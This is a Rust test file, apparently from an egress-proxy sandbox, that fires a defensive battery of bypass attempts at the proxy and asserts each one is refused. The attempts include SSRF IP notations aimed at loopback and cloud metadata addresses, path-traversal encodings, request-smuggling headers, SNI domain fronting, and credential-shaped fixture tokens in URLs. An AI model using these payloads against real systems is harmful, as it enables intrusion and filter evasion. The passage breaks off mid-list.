//! Adversarial battery against the running egress proxy on loopback: host confusion, CONNECT
//! variants, path allowlist bypasses, request smuggling, credential spellings, limits, protocol
//! garbage, redirects and echoed credentials. Every refusal is checked for its status, the
//! refusal header naming the layer, and that the recording upstream never saw the request.

mod egress_common;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use egress_common::*;
use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, ServerName};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

const AWS_KEY: &str = "AKIAZ4MQ7XK2PL5RTV3N";
const GH_TOKEN: &str = "ghp_T3kW9xQ2mZ7rL5vB8nJ4cY6pF1hD0sG2aE9u";
const ANTHROPIC_KEY: &str = "sk-ant-api03-Xb7Kq2Lm9Vp4Rt8Wn3Yz6Hc1Jd5Fg0Sa2Ue7Io4Pq9Lk3Mn8Bv6Cx1Zr5Ty0Wu2Ei7Ao4Qs9Dp3Fg8Hj6Kl1ZxcVbAA";

/// Routes for the battery: an auth route with a path allowlist behind TLS, an open route, a
/// passthrough route, a plain-HTTP auth route with an allowlist, and a plain echo upstream.
fn routes() -> String {
    serde_json::json!({"routes": [
        {"host": "api.test", "path_allowlist": ["/v1/"], "auth_scheme": "Bearer", "token_env": "EGRESS_TOKEN_0"},
        {"host": "open.test"},
        {"host": "pass.test", "tls_passthrough": true},
        {"host": "plain.test", "path_allowlist": ["/ok/"], "auth_scheme": "token", "token_env": "EGRESS_TOKEN_0"},
        {"host": "echo.test", "auth_scheme": "Bearer", "token_env": "EGRESS_TOKEN_0"},
    ]})
    .to_string()
}

async fn harness() -> Harness {
    start(&routes()).await
}

/// One parsed HTTP response.
#[derive(Debug, Default)]
struct Resp {
    status: u16,
    head: String,
    body: String,
}

impl Resp {
    fn header(&self, name: &str) -> Option<String> {
        self.head.lines().skip(1).find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.trim()
                .eq_ignore_ascii_case(name)
                .then(|| v.trim().to_string())
        })
    }

    /// Refused with `status` by `layer`, the header and the body saying so.
    fn refused(&self, status: u16, layer: &str) -> bool {
        let header_ok = self
            .header("x-bot-bottle-refusal")
            .is_some_and(|v| v.starts_with(&format!("layer={layer}; rule=")));
        self.status == status
            && header_ok
            && self.body.contains(&format!("layer: {layer}\n"))
            && self.body.contains("rule: ")
    }

    fn rule(&self) -> String {
        self.header("x-bot-bottle-refusal")
            .and_then(|v| {
                v.split("; ")
                    .find_map(|p| p.strip_prefix("rule="))
                    .map(str::to_string)
            })
            .unwrap_or_default()
    }
}

/// Read one response (head, then a Content-Length or chunked body, or up to EOF).
async fn read_response<S: AsyncRead + Unpin>(s: &mut S) -> Option<Resp> {
    let fut = async {
        let head = read_head(s).await;
        if !head.ends_with("\r\n\r\n") {
            return None;
        }
        let status = head.split_whitespace().nth(1)?.parse().ok()?;
        let mut r = Resp {
            status,
            head,
            body: String::new(),
        };
        if status == 101 || status == 100 || status == 204 || status == 304 {
            return Some(r);
        }
        let mut body = Vec::new();
        if let Some(n) = r.header("content-length") {
            let n: usize = n.parse().ok()?;
            body.resize(n, 0);
            s.read_exact(&mut body).await.ok()?;
        } else if r
            .header("transfer-encoding")
            .is_some_and(|v| v.eq_ignore_ascii_case("chunked"))
        {
            let mut b = [0u8; 1];
            while !body.ends_with(b"0\r\n\r\n") {
                if s.read(&mut b).await.ok()? == 0 {
                    break;
                }
                body.push(b[0]);
            }
        } else if r
            .header("connection")
            .is_some_and(|v| v.eq_ignore_ascii_case("close"))
        {
            let _ = s.read_to_end(&mut body).await;
        }
        r.body = String::from_utf8_lossy(&body).into_owned();
        Some(r)
    };
    tokio::time::timeout(Duration::from_secs(10), fut)
        .await
        .ok()
        .flatten()
}

/// Write all of `data` and flush it (a TLS client may otherwise keep it buffered).
async fn put<S: AsyncWrite + Unpin>(s: &mut S, data: &[u8]) {
    s.write_all(data).await.unwrap();
    s.flush().await.unwrap();
}

async fn send<S: AsyncRead + AsyncWrite + Unpin>(s: &mut S, req: &[u8]) -> Option<Resp> {
    s.write_all(req).await.ok()?;
    s.flush().await.ok()?;
    read_response(s).await
}

/// One request on a fresh connection to the proxy listener.
async fn send_plain(h: &Harness, req: &[u8]) -> Option<Resp> {
    let mut s = h.raw().await;
    send(&mut s, req).await
}

/// One request inside a fresh intercepted tunnel to api.test.
async fn send_tunnel(h: &Harness, req: &[u8]) -> Option<Resp> {
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    send(&mut tls, req).await
}

/// The CONNECT answer for a raw request line.
async fn connect_raw(h: &Harness, req: &[u8]) -> Option<Resp> {
    send_plain(h, req).await
}

/// True when the peer closes (or errors) within a few seconds without sending a 2xx.
async fn closed_without_success<S: AsyncRead + Unpin>(s: &mut S) -> bool {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout(Duration::from_secs(10), s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
            Err(_) => return false,
        }
    }
    !String::from_utf8_lossy(&out).starts_with("HTTP/1.1 2")
}

/// How many responses a raw answer holds.
fn status_lines(text: &str) -> usize {
    text.lines().filter(|l| l.starts_with("HTTP/1.1 ")).count()
}

fn nothing_forwarded(h: &Harness) {
    assert!(h.tls.requests().is_empty(), "{:?}", h.tls.requests());
    assert!(h.plain.requests().is_empty(), "{:?}", h.plain.requests());
}

// ---------------------------------------------------------------------------------------------
// Host confusion
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn userinfo_in_the_target_never_routes() {
    let h = harness().await;
    // Userinfo is ambiguous (which side is the host?) and could carry a secret: refused
    // before any route lookup, whichever side names the route.
    for target in [
        "http://plain.test@evil.test/ok/x",
        "http://evil.test@plain.test/ok/x",
        "http://user:pass@plain.test/ok/x",
        &format!("http://x:{GH_TOKEN}@plain.test/ok/x"),
    ] {
        let req = format!("GET {target} HTTP/1.1\r\nHost: plain.test\r\n\r\n");
        let r = send_plain(&h, req.as_bytes()).await.unwrap();
        assert!(r.refused(400, "protocol"), "{target}: {r:?}");
        assert_eq!(r.rule(), "userinfo-in-target");
    }
    // CONNECT with userinfo.
    for target in ["plain.test@evil.test:443", "evil.test@api.test:443"] {
        let req = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
        let r = connect_raw(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{target}: {r:?}");
    }
    assert!(!h.audit_text().contains(GH_TOKEN));
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_spellings_other_than_the_route_get_no_route() {
    let h = harness().await;
    for host in [
        "plain.test.",
        "plain%2etest",
        "plain.test%00",
        "xn--plin-7ra.test",
        "plain.test..",
        ".plain.test",
        "plain.tes",
        "plain.test.evil.test",
    ] {
        let req = format!("GET http://{host}/ok/x HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let r = send_plain(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{host}: {r:?}");
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{host}: refusal header missing: {r:?}"
        );
    }
    for target in [
        "api.test.:443",
        "api%2etest:443",
        "API.TEST.:443",
        "xn--api-.test:443",
        "api.test%00:443",
    ] {
        let req = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
        let r = connect_raw(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{target}: {r:?}");
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{target}: {r:?}"
        );
    }
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_ascii_host_refused_with_an_explanation() {
    let h = harness().await;
    // Cyrillic `а` in place of the Latin `a` (raw UTF-8 on the wire).
    let r = connect_raw(
        &h,
        "CONNECT \u{430}pi.test:443 HTTP/1.1\r\nHost: \u{430}pi.test:443\r\n\r\n".as_bytes(),
    )
    .await
    .unwrap();
    assert_eq!(r.status / 100, 4, "{r:?}");
    assert!(r.header("x-bot-bottle-refusal").is_some(), "{r:?}");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upper_case_host_reaches_the_route_without_the_credential() {
    let h = harness().await;
    let r = send_plain(
        &h,
        b"GET http://PLAIN.TEST/ok/x HTTP/1.1\r\nHost: PLAIN.TEST\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.plain.requests();
    assert_eq!(reqs.len(), 1);
    assert!(reqs[0].header_values("authorization").is_empty());
    // The exact spelling gets it.
    let r = send_plain(
        &h,
        b"GET http://plain.test/ok/y HTTP/1.1\r\nHost: plain.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(
        h.plain.requests()[1].header_values("authorization"),
        [format!("token {TOKEN}")]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ip_literals_in_every_notation_have_no_route() {
    let h = harness().await;
    for target in [
        "127.0.0.1:443",
        "2130706433:443",
        "0x7f.1:443",
        "0x7f000001:443",
        "017700000001:443",
        "0177.0.0.1:443",
        "127.1:443",
        "[::1]:443",
        "[::ffff:127.0.0.1]:443",
        "[::ffff:7f00:1]:443",
        "[fe80::1%25lo]:443",
        "[fe80::1%lo]:443",
        "169.254.169.254:443",
        "[::ffff:169.254.169.254]:443",
    ] {
        let req = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
        let r = connect_raw(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{target}: {r:?}");
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{target}: {r:?}"
        );
    }
    for host in ["2130706433", "0x7f.1", "[::ffff:127.0.0.1]", "017700000001"] {
        let req = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let r = send_plain(&h, req.as_bytes()).await.unwrap();
        assert!(r.refused(403, "allowlist"), "{host}: {r:?}");
    }
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_canonical_port_is_routed() {
    let h = harness().await;
    for target in [
        "api.test:0443",
        "api.test:+443",
        "api.test:443 ",
        "api.test:65536",
        "api.test:4430",
        "api.test:80",
        "api.test:8443",
        "api.test:",
        "api.test",
        "api.test:443:443",
    ] {
        let req = format!("CONNECT {target} HTTP/1.1\r\nHost: api.test\r\n\r\n");
        let r = connect_raw(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{target:?}: {r:?}");
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{target}: {r:?}"
        );
    }
    for target in [
        "http://plain.test:0080/ok/x",
        "http://plain.test:8080/ok/x",
        "http://plain.test:443/ok/x",
    ] {
        let req = format!("GET {target} HTTP/1.1\r\nHost: plain.test\r\n\r\n");
        let r = send_plain(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{target}: {r:?}");
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{target}: {r:?}"
        );
    }
    nothing_forwarded(&h);
    // The explicit default port is the same destination.
    let r = send_plain(
        &h,
        b"GET http://plain.test:80/ok/x HTTP/1.1\r\nHost: plain.test:80\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let (head, _s) = h.connect("api.test:443").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
}

// ---------------------------------------------------------------------------------------------
// Absolute-form and Host mismatches
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_header_disagreeing_with_the_target_is_refused() {
    let h = harness().await;
    for req in [
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n",
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test.\r\n\r\n",
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test:8080\r\n\r\n",
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: user@plain.test\r\n\r\n",
        "GET http://plain.test/ok/x HTTP/1.1\r\nHost: \r\n\r\n",
    ] {
        let r = send_plain(&h, req.as_bytes()).await.unwrap();
        assert_eq!(r.status / 100, 4, "{req:?}: {r:?}");
        assert!(r.header("x-bot-bottle-refusal").is_some(), "{req:?}: {r:?}");
    }
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn absolute_form_inside_a_tunnel_must_name_the_tunnel_host() {
    let h = harness().await;
    for req in [
        "GET https://open.test/v1/x HTTP/1.1\r\nHost: open.test\r\n\r\n",
        "GET https://open.test/v1/x HTTP/1.1\r\nHost: api.test\r\n\r\n",
        "GET http://evil.test/v1/x HTTP/1.1\r\nHost: api.test\r\n\r\n",
        "GET https://api.test:8443/v1/x HTTP/1.1\r\nHost: api.test\r\n\r\n",
        "GET /v1/x HTTP/1.1\r\nHost: api.test:8443\r\n\r\n",
        "GET /v1/x HTTP/1.1\r\nHost: api.test:80\r\n\r\n",
    ] {
        let r = send_tunnel(&h, req.as_bytes()).await.unwrap();
        assert!(r.refused(403, "host-mismatch"), "{req:?}: {r:?}");
    }
    nothing_forwarded(&h);
    // The tunnel host in absolute form is fine and gets the credential.
    let r = send_tunnel(
        &h,
        b"GET https://api.test/v1/abs HTTP/1.1\r\nHost: api.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    let reqs = h.tls.requests();
    assert_eq!(reqs[0].path, "/v1/abs");
    assert_eq!(
        reqs[0].header_values("authorization"),
        [format!("Bearer {TOKEN}")]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_new_host_on_a_kept_alive_connection_is_refused() {
    let h = harness().await;
    let mut s = h.raw().await;
    let r = send(
        &mut s,
        b"GET http://plain.test/ok/1 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200);
    // The listener is a proxy: a different absolute target on the same connection is checked
    // on its own (refused here, it has no route).
    let r = send(
        &mut s,
        b"GET http://evil.test/ok/2 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert!(r.refused(403, "allowlist"), "{r:?}");
    assert_eq!(h.plain.requests().len(), 1);
}

// ---------------------------------------------------------------------------------------------
// CONNECT variants
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_variants_are_refused() {
    let h = harness().await;
    let cases: [&[u8]; 7] = [
        // Lower-case method: not CONNECT, not a proxy request.
        b"connect api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
        // Absolute-form or origin-form target.
        b"CONNECT https://api.test:443/ HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
        b"CONNECT / HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
        b"CONNECT api.test:443/v1/x HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
        // A body on CONNECT has no meaning: its bytes would be read as tunnel data.
        b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\nContent-Length: 5\r\n\r\nhello",
        b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        b"CONNECT pass.test:443 HTTP/1.1\r\nHost: pass.test:443\r\nContent-Length: 18\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    ];
    for req in cases {
        let r = connect_raw(&h, req).await.unwrap();
        assert_eq!(r.status / 100, 4, "{}: {r:?}", String::from_utf8_lossy(req));
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{}: {r:?}",
            String::from_utf8_lossy(req)
        );
    }
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_inside_a_tunnel_is_refused() {
    let h = harness().await;
    let r = send_tunnel(
        &h,
        b"CONNECT open.test:443 HTTP/1.1\r\nHost: open.test:443\r\n\r\n",
    )
    .await
    .unwrap();
    assert!(r.refused(403, "protocol"), "{r:?}");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_over_http_1_0_works_and_is_checked() {
    let h = harness().await;
    let r = connect_raw(&h, b"CONNECT evil.test:443 HTTP/1.0\r\n\r\n")
        .await
        .unwrap();
    assert!(r.refused(403, "allowlist"), "{r:?}");
    let r = connect_raw(&h, b"CONNECT api.test:443 HTTP/1.0\r\n\r\n")
        .await
        .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
}

// ---------------------------------------------------------------------------------------------
// TLS inside CONNECT
// ---------------------------------------------------------------------------------------------

/// Accepts any server certificate (the tests below are about what the proxy does, not trust).
#[derive(Debug)]
struct AcceptAny(Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for AcceptAny {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: rustls_pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }
    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

/// TLS over `s` with `name` (an IP sends no SNI) and the given ALPN list.
async fn tls_with(
    s: TcpStream,
    name: ServerName<'static>,
    alpn: &[&[u8]],
    trust: Option<&std::path::Path>,
) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_safe_default_protocol_versions()
        .unwrap();
    let mut cfg = match trust {
        Some(ca) => {
            let mut roots = rustls::RootCertStore::empty();
            let pem = std::fs::read(ca).unwrap();
            for c in CertificateDer::pem_slice_iter(&pem) {
                roots.add(c.unwrap()).unwrap();
            }
            builder.with_root_certificates(roots).with_no_client_auth()
        }
        None => builder
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AcceptAny(provider)))
            .with_no_client_auth(),
    };
    cfg.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
    tokio_rustls::TlsConnector::from(Arc::new(cfg))
        .connect(name, s)
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tunnel_without_sni_still_checks_every_request() {
    let h = harness().await;
    let (head, s) = h.connect("api.test:443").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let ip = ServerName::IpAddress(std::net::Ipv4Addr::LOCALHOST.into());
    let mut tls = tls_with(s, ip, &[b"http/1.1"], None).await.unwrap();
    let r = send(
        &mut tls,
        b"GET /v1/nosni HTTP/1.1\r\nHost: open.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert!(r.refused(403, "host-mismatch"), "{r:?}");
    let (_, s) = h.connect("api.test:443").await;
    let ip = ServerName::IpAddress(std::net::Ipv4Addr::LOCALHOST.into());
    let mut tls = tls_with(s, ip, &[b"http/1.1"], None).await.unwrap();
    let r = send(
        &mut tls,
        b"GET /v1/nosni HTTP/1.1\r\nHost: api.test\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(h.tls.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_instead_of_tls_closes_the_tunnel() {
    let h = harness().await;
    for garbage in [
        &b"GET /v1/x HTTP/1.1\r\nHost: api.test\r\n\r\n"[..],
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\xff\xff\x01\x00\xff\xfb\x03\x03garbage",
        b"\x00\x00\x00\x00\x00\x00\x00\x00",
    ] {
        let (head, mut s) = h.connect("api.test:443").await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        put(&mut s, garbage).await;
        assert!(closed_without_success(&mut s).await);
    }
    nothing_forwarded(&h);
    assert!(
        h.wait_for_audit(|l| l["host"] == "api.test" && l["rule"] == "not-tls")
            .await,
        "{}",
        h.audit_text()
    );
    // Still serving.
    let r = send_tunnel(&h, b"GET /v1/after HTTP/1.1\r\nHost: api.test\r\n\r\n")
        .await
        .unwrap();
    assert_eq!(r.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_is_not_spoken() {
    let h = harness().await;
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
    // h2 preface on the proxy listener: an explained refusal, then the connection ends.
    let mut s = h.raw().await;
    let r = send(&mut s, preface).await.unwrap();
    assert!(r.refused(505, "protocol"), "{r:?}");
    assert_eq!(r.rule(), "http2-not-supported");
    assert!(closed_without_success(&mut s).await);
    // ALPN h2 only: the handshake fails (the leaf speaks http/1.1 only).
    let (_, s) = h.connect("api.test:443").await;
    let name = ServerName::try_from("api.test").unwrap();
    let res = tls_with(s, name, &[b"h2"], Some(&h.bottle_ca)).await;
    assert!(res.is_err(), "h2-only ALPN must not be accepted");
    // h2 preface inside the TLS tunnel.
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    let r = send(&mut tls, preface).await.unwrap();
    assert!(r.refused(505, "protocol"), "{r:?}");
    assert!(closed_without_success(&mut tls).await);
    assert!(
        h.wait_for_audit(|l| l["rule"] == "http2-not-supported" && l["host"] == "api.test")
            .await
    );
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn passthrough_tunnel_refuses_a_foreign_sni() {
    let h = harness().await;
    // Domain fronting: CONNECT to the passthrough host, then a ClientHello for another name.
    let (head, s) = h.connect("pass.test:443").await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let name = ServerName::try_from("evil.test").unwrap();
    let res = tls_with(s, name, &[b"http/1.1"], None).await;
    if let Ok(mut tls) = res {
        let r = send(&mut tls, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n").await;
        assert!(r.is_none(), "{r:?}");
    }
    assert!(
        h.wait_for_audit(|l| l["host"] == "pass.test" && l["rule"] == "sni-mismatch")
            .await,
        "{}",
        h.audit_text()
    );
    nothing_forwarded(&h);
    // No SNI at all for a named host: refused too.
    let (_, s) = h.connect("pass.test:443").await;
    let ip = ServerName::IpAddress(std::net::Ipv4Addr::LOCALHOST.into());
    if let Ok(mut tls) = tls_with(s, ip, &[b"http/1.1"], None).await {
        let r = send(&mut tls, b"GET / HTTP/1.1\r\nHost: pass.test\r\n\r\n").await;
        assert!(r.is_none(), "{r:?}");
    }
    assert!(
        h.wait_for_audit(|l| l["host"] == "pass.test" && l["rule"] == "sni-missing")
            .await,
        "{}",
        h.audit_text()
    );
    // Not TLS at all: nothing is relayed either.
    let (_, mut s) = h.connect("pass.test:443").await;
    put(&mut s, b"GET / HTTP/1.1\r\nHost: pass.test\r\n\r\n").await;
    assert!(closed_without_success(&mut s).await);
    nothing_forwarded(&h);
    // The right SNI passes.
    let (_, s) = h.connect("pass.test:443").await;
    let name = ServerName::try_from("pass.test").unwrap();
    let mut tls = tls_with(s, name, &[b"http/1.1"], Some(&h.upstream_ca))
        .await
        .unwrap();
    let r = send(&mut tls, b"GET /p HTTP/1.1\r\nHost: pass.test\r\n\r\n")
        .await
        .unwrap();
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(h.tls.requests().len(), 1);
}

// ---------------------------------------------------------------------------------------------
// Path allowlist
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_allowlist_bypasses_are_refused() {
    let h = harness().await;
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    for path in [
        "/v1/../secret",
        "/v1/./../secret",
        "/v1/%2e%2e/secret",
        "/v1/%2E%2E/secret",
        "/v1/.%2e/secret",
        "/v1/%2e./secret",
        "/v1%2f..%2fsecret",
        "/v1/..%2fsecret",
        "/v1/..;/secret",
        "/v1/..;x=1/secret",
        "/v1/.;/../secret",
        "/v1/%2e%2e;/secret",
        "/v1\\..\\secret",
        "/v1/..\\secret",
        "/v1/%5c..%5csecret",
        "/v1/%252e%252e/secret",
        "/v1/%252fsecret",
        "/v1/%c0%ae%c0%ae/secret",
        "/v1/%c0%afsecret",
        "/v1/%e0%80%ae%e0%80%ae/secret",
        "/v1/%00/../secret",
        "/v1/%ef%bc%8e%ef%bc%8e/secret",
        "/V1/x",
        "/v1",
        "/v1x/",
        "//v1/x",
        "/secret/v1/",
        "/secret?/v1/",
        "/secret#/v1/",
        "*",
    ] {
        let req = format!("GET {path} HTTP/1.1\r\nHost: api.test\r\n\r\n");
        let Some(r) = send(&mut tls, req.as_bytes()).await else {
            panic!("{path}: no answer");
        };
        assert_eq!(r.status / 100, 4, "{path}: {r:?}");
        assert!(
            r.header("x-bot-bottle-refusal").is_some(),
            "{path}: refusal header missing: {r:?}"
        );
        if r.header("connection").is_some_and(|c| c == "close") {
            tls = h.tunnel("api.test:443", "api.test").await.unwrap();
        }
    }
    nothing_forwarded(&h);
    // Plain HTTP routes too.
    for path in [
        "/ok/../secret",
        "/ok/..;/secret",
        "/ok/%2e%2e/secret",
        "/secret",
    ] {
        let req = format!("GET http://plain.test{path} HTTP/1.1\r\nHost: plain.test\r\n\r\n");
        let r = send_plain(&h, req.as_bytes()).await.unwrap();
        assert!(r.refused(403, "path-allowlist"), "{path}: {r:?}");
    }
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowed_paths_pass_exactly_as_sent() {
    let h = harness().await;
    let mut tls = h.tunnel("api.test:443", "api.test").await.unwrap();
    let paths = [
        "/v1/x?next=/../admin",
        "/v1/x?a=%2e%2e%2f",
        "/v1/a//b",
        "/v1/a%20b",
        "/v1/.well-known/x",
        "/v1/...",
        "/v1/x;v=1",
    ];
    for path in paths {
        let req = format!("GET {path} HTTP/1.1\r\nHost: api.test\r\n\r\n");
        let r = send(&mut tls, req.as_bytes()).await.unwrap();
        assert_eq!(r.status, 200, "{path}: {r:?}");
    }
    let seen: Vec<String> = h.tls.requests().iter().map(|q| q.path.clone()).collect();
    assert_eq!(seen, paths);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fragment_is_dropped_not_forwarded_as_path() {
    let h = harness().await;
    let r = send_tunnel(
        &h,
        b"GET /v1/x#/../../admin HTTP/1.1\r\nHost: api.test\r\n\r\n",
    )
    .await
    .unwrap();
    // The fragment is dropped with what it says; the path checked is the path sent.
    assert_eq!(r.status, 200, "{r:?}");
    let seen: Vec<String> = h.tls.requests().iter().map(|q| q.path.clone()).collect();
    assert_eq!(seen, ["/v1/x"]);
}

// ---------------------------------------------------------------------------------------------
// Request smuggling and malformed heads
// ---------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ambiguous_framing_gets_400_and_one_answer() {
    let h = harness().await;
    let attacks: Vec<&[u8]> = vec![
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!GET /v1/smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5, 5\r\n\r\nhelloGET /v1/smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: +5\r\n\r\nhello",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0x5\r\n\r\nhello",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length : 5\r\n\r\nhello",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\n Transfer-Encoding: chunked\r\n\r\nhello",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nX-Fold: a\r\n b\r\nContent-Length: 0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nX-Nul: a\x00b\r\nContent-Length: 0\r\n\r\n",
